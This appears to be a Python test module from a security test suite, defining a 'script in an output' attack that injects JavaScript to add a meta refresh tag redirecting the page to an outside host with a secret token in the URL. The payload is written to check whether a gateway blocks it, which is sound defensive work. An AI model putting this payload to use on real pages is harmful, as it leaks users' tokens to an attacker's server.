"""A script has the page refreshed from outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://{WEB}/{ground.token}'; document.head.append(m)"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
